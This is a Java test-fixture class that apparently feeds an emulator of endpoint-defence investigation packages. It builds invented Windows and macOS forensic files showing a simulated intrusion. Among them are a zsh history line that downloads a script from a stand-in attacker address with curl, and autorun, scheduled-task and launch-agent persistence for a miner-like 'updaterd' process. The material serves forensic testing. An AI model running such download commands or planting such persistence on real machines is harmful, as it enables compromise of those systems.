package io.varve.emulator.defender;

import java.nio.ByteBuffer;
import java.nio.ByteOrder;
import java.nio.charset.StandardCharsets;
import java.util.LinkedHashMap;
import java.util.Map;
import java.util.zip.CRC32;

/// Investigation packages of machines that no device stands behind: small and invented, in the documented folders, with
/// one file of no known kind each.
final class MadeUpPackage {
    private MadeUpPackage() {}

    static Map<String, byte[]> windows(String host) {
        var files = new LinkedHashMap<String, byte[]>();
        text(files, "Autoruns/HKLM_SOFTWARE_Microsoft_Windows_CurrentVersion_Run.txt", """
                HKEY_LOCAL_MACHINE\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run
                    SecurityHealth    REG_EXPAND_SZ    %windir%\\system32\\SecurityHealthSystray.exe
                    Updaterd    REG_SZ    C:\\ProgramData\\cache\\updaterd.exe --pool 203.0.113.77:3333
                """);
        text(files, "Installed programs/InstalledPrograms.csv", """
                "Name","Version","Publisher","InstallDate"
                "Example Office","16.0.1","Example Corp","20260301"
                "Cache Updater","1.0","","20260322"
                """);
        text(files, "Network connections/ActiveNetConnections.txt", """

                Active Connections

                  Proto  Local Address          Foreign Address        State           PID
                  TCP    192.0.2.15:49712       203.0.113.77:3333      ESTABLISHED     4120
                  TCP    0.0.0.0:445            0.0.0.0:0              LISTENING       4
                """);
        text(files, "Network connections/Arp.txt", """

                Interface: 192.0.2.15 --- 0x7
                  Internet Address      Physical Address      Type
                  192.0.2.1             02-00-5e-00-00-01     dynamic
                """);
        text(files, "Network connections/DnsCache.txt", """

                Windows IP Configuration

                    pool.attacker.example
                    ----------------------------------------
                    Record Name . . . . . : pool.attacker.example
                    Record Type . . . . . : 1
                    Time To Live  . . . . : 300
                    A (Host) Record . . . : 203.0.113.77
                """);
        text(files, "Network connections/IpConfig.txt", """

                Windows IP Configuration

                   Host Name . . . . . . . . . . . . : %s
                   IPv4 Address. . . . . . . . . . . : 192.0.2.15(Preferred)
                """.formatted(host));
        text(files, "Network connections/FirewallExecutionLog.txt", "The firewall log was collected.\n");
        text(files, "Network connections/pfirewall.log", """
                #Version: 1.5
                #Software: Microsoft Windows Firewall
                #Time Format: Local
                #Fields: date time action protocol src-ip dst-ip src-port dst-port size tcpflags tcpsyn tcpack
                2026-03-22 10:15:02 ALLOW TCP 192.0.2.15 203.0.113.77 49712 3333 0 - 0 0
                """);
        text(files, "Prefetch files/PrefetchFilesList.txt", "UPDATERD.EXE-1A2B3C4D.pf\nCMD.EXE-0BD30981.pf\n");
        text(files, "Processes/Processes.csv", """
                "ProcessId","ParentProcessId","Name","CreationDate","CommandLine","ExecutablePath"
                "4","0","System","2026-03-20T06:00:01Z","",""
                "4120","996","updaterd.exe","2026-03-22T10:15:00Z","updaterd.exe --pool 203.0.113.77:3333","C:\\ProgramData\\cache\\updaterd.exe"
                """);
        text(files, "Scheduled tasks/ScheduledTasks.csv", """
                "HostName","TaskName","Next Run Time","Status","Task To Run"
                "%s","\\Updaterd","3/23/2026 10:15:00 AM","Ready","C:\\ProgramData\\cache\\updaterd.exe"
                """.formatted(host));
        files.put("Security event log/Security.evtx", emptyEventLog());
        text(files, "Services/Services.csv", """
                "Name","DisplayName","State","StartMode","PathName"
                "Dnscache","DNS Client","Running","Auto","C:\\Windows\\system32\\svchost.exe -k NetworkService"
                """);
        text(files, "Windows Server Message Block (SMB) sessions/SMBInboundSessions.txt", "no sessions\n");
        text(files, "Windows Server Message Block (SMB) sessions/SMBOutboundSession.txt", "no sessions\n");
        text(files, "System Information/SystemInformation.txt", """

                Host Name:                 %s
                OS Name:                   Microsoft Windows Server 2022 Standard
                OS Version:                10.0.20348 N/A Build 20348
                """.formatted(host.toUpperCase(java.util.Locale.ROOT)));
        text(files, "Temp Directories/TempDirectory_alice.txt", "03/22/2026  10:14 AM    81,920 u.exe\n");
        text(files, "Users and Groups/Administrators.txt", "Administrator\nalice\n");
        text(files, "WdSupportLogs/MpCmdRunLog.txt", "MpCmdRun: Command Line: MpCmdRun.exe -GetFiles\n");
        files.put("WdSupportLogs/MPSupportFiles.cab", new byte[] {'M', 'S', 'C', 'F', 0, 0, 0, 0});
        text(files, "CollectionSummaryReport.xls", "Command\tStatus\nPrefetch files\tFailed: 0x80070005\n");
        unknown(files);
        return files;
    }

    static Map<String, byte[]> macos(String host) {
        var files = new LinkedHashMap<String, byte[]>();
        text(files, "Applications/applications.txt", "/Applications/Safari.app 18.3\n/Applications/Cache.app 1.0\n");
        text(files, "Disk volume/diskutil.txt", "/dev/disk3 (synthesized): APFS Container Scheme\n");
        text(files, "File/open_files.txt", "COMMAND PID USER FD TYPE NAME\nupdaterd 812 alice txt REG /tmp/updaterd\n");
        text(
                files,
                "History/alice_zsh_history.txt",
                ": 1774174500:0;curl -fsS http://203.0.113.77/u.sh -o /tmp/u.sh\n");
        text(files, "Kernel modules/kextstat.txt", "Index Refs Name (Version)\n1 150 com.apple.kpi.bsd (24.3.0)\n");
        text(files, "Network connections/active.txt", "tcp4 0 0 192.0.2.16.50112 203.0.113.77.3333 ESTABLISHED\n");
        text(files, "Processes/processes.txt", "USER PID PPID STARTED COMMAND\nalice 812 1 10:15AM /tmp/updaterd\n");
        text(
                files,
                "Services and scheduled tasks/launch_agents.txt",
                "/Users/alice/Library/LaunchAgents/updaterd.plist\n");
        text(files, "System security information/sip.txt", "System Integrity Protection status: enabled.\n");
        text(files, "Users and groups/users.txt", "alice 501\nhost " + host + "\n");
        unknown(files);
        return files;
    }

    private static void unknown(Map<String, byte[]> files) {
        files.put(
                "Forensics/collector_state.blob", "VRVX\1\0\2\0unknown to everybody".getBytes(StandardCharsets.UTF_8));
    }

    private static void text(Map<String, byte[]> files, String name, String content) {
        files.put(name, content.getBytes(StandardCharsets.UTF_8));
    }

    /// An event log without records: the file header of the format (MS-EVEN6), its checksum right, no chunk.
    private static byte[] emptyEventLog() {
        ByteBuffer header = ByteBuffer.allocate(4096).order(ByteOrder.LITTLE_ENDIAN);
        header.put("ElfFile\0".getBytes(StandardCharsets.US_ASCII));
        header.putLong(8, 0).putLong(16, 0).putLong(24, 1).putInt(32, 128);
        header.putShort(36, (short) 1).putShort(38, (short) 3).putShort(40, (short) 4096);
        var checksum = new CRC32();
        checksum.update(header.array(), 0, 120);
        header.putInt(124, (int) checksum.getValue());
        return header.array();
    }
}
